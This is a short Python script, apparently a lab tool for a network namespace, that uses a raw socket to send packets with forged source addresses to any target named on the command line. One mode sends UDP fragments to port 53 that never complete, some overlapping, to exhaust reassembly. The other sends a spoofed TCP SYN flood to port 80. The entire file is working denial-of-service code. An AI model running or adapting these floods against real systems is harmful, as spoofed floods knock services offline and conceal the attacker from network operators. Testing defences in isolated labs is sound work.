"""Packets with made-up senders, by way of the namespace's own routes. Run inside the namespace.

transit.py fragments TARGET COUNT: beginnings of datagrams to UDP port 53 that never end, and some that overlap.
transit.py syns TARGET COUNT: connections to port 80 that nobody opens."""

import socket
import struct
import sys

FORGED = 0xCB007100  # 203.0.113.0/24 and what comes behind it


def ipv4(source, target, protocol, payload, identification=1, fragment=0):
    # The kernel fills in length and checksum.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, identification, fragment, 64, protocol, 0, source, target) + payload


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def fragments(target, number):
    source = struct.pack("!I", FORGED + number)
    beginning = struct.pack("!HHHH", 53, 53, 2008, 0) + bytes(16)
    yield ipv4(source, target, socket.IPPROTO_UDP, beginning, number + 1, 0x2000)
    if number % 10 == 0:
        yield ipv4(source, target, socket.IPPROTO_UDP, bytes(24), number + 1, 0x2000 | 1)


def syns(target, number):
    source = struct.pack("!I", FORGED + number)
    segment = struct.pack("!HHIIBBHHH", 1024 + number, 80, number, 0, 5 << 4, 2, 65535, 0, 0)
    whole = checksum(source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(segment)) + segment)
    yield ipv4(source, target, socket.IPPROTO_TCP, segment[:16] + struct.pack("!H", whole) + segment[18:])


def main(what, target, count):
    packets = {"fragments": fragments, "syns": syns}[what]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(int(count)):
            for packet in packets(socket.inet_aton(target), number):
                raw.sendto(packet, (target, 0))


if __name__ == "__main__":
    main(*sys.argv[1:])
